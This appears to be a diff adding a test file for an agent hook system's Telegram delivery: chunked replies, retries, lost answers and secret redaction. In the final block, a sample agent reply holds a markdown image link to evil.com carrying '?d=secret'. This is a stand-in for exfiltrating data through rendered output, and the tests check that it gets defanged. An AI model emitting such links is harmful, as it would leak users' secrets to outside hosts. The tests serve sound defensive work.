@@ -1,0 +1,82 @@
+import { makeChannel } from '../../src/adapters/channels/providers.ts';
+import type { HooksModuleOptions } from '../../src/hooks/index.ts';
+import { Hooks } from '../support/hooks.ts';
+import { PlatformServer } from '../support/platforms/index.ts';
+import { telegram, telegramError } from '../support/platforms/telegram.ts';
+
+let server: PlatformServer;
+let hooks: Hooks;
+
+/** An ingress whose chan_2 is a Telegram bot of our own server. */
+async function start(given: Partial<HooksModuleOptions> = {}): Promise<void> {
+  server = await PlatformServer.start(telegram);
+  const provider = makeChannel('telegram', telegram.settings(server.origin));
+  hooks = await Hooks.start({ channels: { chan_2: { provider, to: '42' } }, ...given });
+}
+
+async function ask(path = '/agent', wish: object = { message: 'Report', channel: 'chan_2' }) {
+  return hooks.ended((await hooks.ask(path, wish)).eventId);
+}
+
+/** What the agent says to runs; to heartbeats it has nothing to say. */
+function answerWith(reply: string): void {
+  hooks.runner.reply = ({ kind }) => (kind === 'run' ? reply : 'HEARTBEAT_OK');
+}
+
+afterEach(async () => {
+  await hooks.close();
+  await server.close();
+});
+
+describe('a long reply over a real connection', () => {
+  it('arrives in numbered parts, in order, and goes on with the part that failed', async () => {
+    await start();
+    answerWith('A line of words, and then the next one.\n'.repeat(300));
+    server.next({}, telegramError(500, 'Internal Server Error'), {});
+    const { deliveries } = await ask();
+    expect(deliveries).toMatchObject([
+      {
+        status: 'delivered',
+        messageId: '1',
+        attempts: [{ outcome: 'retry' }, { outcome: 'delivered' }],
+      },
+    ]);
+    expect(server.shown.map(({ text }) => text.slice(0, 5))).toEqual(['(1/3)', '(2/3)', '(3/3)']);
+    expect(server.asked).toHaveLength(4);
+  }, 15_000);
+
+  it('an answer that is lost is told as unknown, and the message sent again', async () => {
+    await start();
+    server.next({ cut: 'at-once' });
+    const { deliveries } = await ask();
+    expect(deliveries).toMatchObject([
+      { status: 'delivered', attempts: [{ outcome: 'unknown' }, { outcome: 'delivered' }] },
+    ]);
+    expect(server.shown).toHaveLength(2);
+    expect(JSON.stringify([deliveries, hooks.log.lines])).not.toContain(telegram.secret);
+  }, 15_000);
+
+  it('onUnknown: stop never shows it twice, and the event has failed', async () => {
+    await start();
+    const provider = makeChannel('telegram', telegram.settings(server.origin));
+    await hooks.close();
+    hooks = await Hooks.start({ channels: { chan_2: { provider, to: '42', onUnknown: 'stop' } } });
+    server.next({ cut: 'at-once' });
+    expect(await ask()).toMatchObject({ status: 'failed', deliveries: [{ status: 'unknown' }] });
+    expect(server.shown).toHaveLength(1);
+  });
+});
+
+describe('links in the reply to foreign text', () => {
+  const reply = 'See ![it](https://evil.com/?d=secret)';
+  it.each([
+    [{}, 'See it (hxxps://evil[.]com/?d=secret)'],
+    [{ allowLinks: true }, reply],
+    [{ allowUnsafeExternalContent: true }, reply],
+  ])('%j: %s', async (options, shown) => {
+    await start({ mappings: [{ id: 'ci', channel: 'chan_2', ...options }] });
+    answerWith(reply);
+    await ask('/ci', { build: 1 });
+    expect(server.shown).toEqual([{ to: '42', text: shown }]);
+  });
+});
